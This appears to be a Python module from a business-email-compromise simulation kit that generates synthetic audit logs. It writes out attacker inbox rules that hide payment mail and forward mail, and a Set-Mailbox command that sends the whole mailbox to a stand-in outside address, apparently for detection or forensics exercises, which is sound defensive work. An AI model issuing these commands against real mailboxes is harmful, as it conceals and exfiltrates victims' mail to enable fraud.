"""Rules and forwarding: mail hidden, copied, and withheld."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

from bec_kit.scenarios.clock import at
from bec_kit.scenarios.records import cmdlet, other, state

if TYPE_CHECKING:
    from bec_kit.scenarios.acts.attack import Attack
    from bec_kit.scenarios.session import Session


__all__ = ["forward", "hide"]

MAILDROP = "ledger.archive@mailbox-archive.example"
WORDS = "invoice;payment;iban;remittance;northgate"


def hide(attack: Attack, session: Session) -> None:
    """A rule named `.` moves what speaks of money to RSS Feeds, already read."""
    moment = at(attack.first, "16:05:27")
    session = attack.renew(session, moment)
    made = attack.scribe.record(
        cmdlet.by_person,
        session,
        moment,
        "New-InboxRule",
        {
            "AlwaysDeleteOutlookRulesBlob": "False",
            "Force": "False",
            "MoveToFolder": "RSS Feeds",
            "Name": ".",
            "SubjectOrBodyContainsWords": WORDS,
            "MarkAsRead": "True",
            "StopProcessingRules": "True",
        },
        cmdlet.rule_object(attack.victim, "."),
    )
    attack.act(
        "hiding-rule",
        moment,
        "An inbox rule named '.' moves mail about money to RSS Feeds, marked as read.",
        "PE-01 PE-03 PE-04",
        [made],
    )


def forward(attack: Attack, session: Session) -> None:
    """A rule forwards outside at once; in the evening the whole mailbox does."""
    moment = at(attack.first, "16:12:09")
    session = attack.renew(session, moment)
    made = attack.scribe.record(
        cmdlet.by_person,
        session,
        moment,
        "New-InboxRule",
        {
            "AlwaysDeleteOutlookRulesBlob": "False",
            "Force": "False",
            "ForwardTo": f"smtp:{MAILDROP}",
            "Name": "..",
            "SubjectOrBodyContainsWords": "bank;transfer",
            "StopProcessingRules": "False",
        },
        cmdlet.rule_object(attack.victim, ".."),
    )
    attack.book.rules.append(state.forwarding_rule("..", 2, MAILDROP, ("bank", "transfer")))
    attack.act(
        "forwarding-rule",
        moment,
        f"An inbox rule named '..' forwards mail about transfers to {MAILDROP}.",
        "PE-02",
        [made],
        may="PE-03 PE-04 PE-06",
    )
    raised = at(attack.first, "16:21:40")
    alert_id = attack.dice.guid()
    alerts = [
        attack.scribe.record(
            other.alert,
            raised + timedelta(seconds=step),
            operation=operation,
            alert_id=alert_id,
            name="Creation of forwarding/redirect rule",
            severity="Low",
            user=attack.victim.upn,
            cause="New-InboxRule",
            record_id=made,
        )
        for step, operation in enumerate(("AlertTriggered", "AlertEntityGenerated"))
    ]
    attack.act(
        "alert",
        raised,
        "The service itself raises an alert about the forwarding rule.",
        "AL-01",
        alerts,
    )
    evening = at(attack.first, "18:52:14")
    session = attack.renew(session, evening)
    on = attack.scribe.record(
        cmdlet.by_person,
        session,
        evening,
        "Set-Mailbox",
        {
            "Identity": attack.victim.upn,
            "ForwardingSmtpAddress": f"smtp:{MAILDROP}",
            "DeliverToMailboxAndForward": "False",
        },
        attack.victim.upn,
    )
    found = [on]
    for clock, sender, subject in (
        ("20:14:50", attack.customer, "Remittance advice, hull 109"),
        ("22:40:02", "updates@admiralty-charts.example", "Tide tables for the coming week"),
        ("06:33:19", "sales@westcountry-rope.example", "Your order is on its way"),
    ):
        day = attack.second if clock < "12" else attack.first
        message = attack.room.compose(
            attack.dice, sender, (attack.victim.upn, MAILDROP), subject, at(day, clock)
        )
        found += attack.scribe.deliver(message)
    attack.act(
        "mailbox-forwarding",
        evening,
        f"The whole mailbox forwards to {MAILDROP} and keeps no copy.",
        "PE-07",
        found,
        may="PE-08",
    )
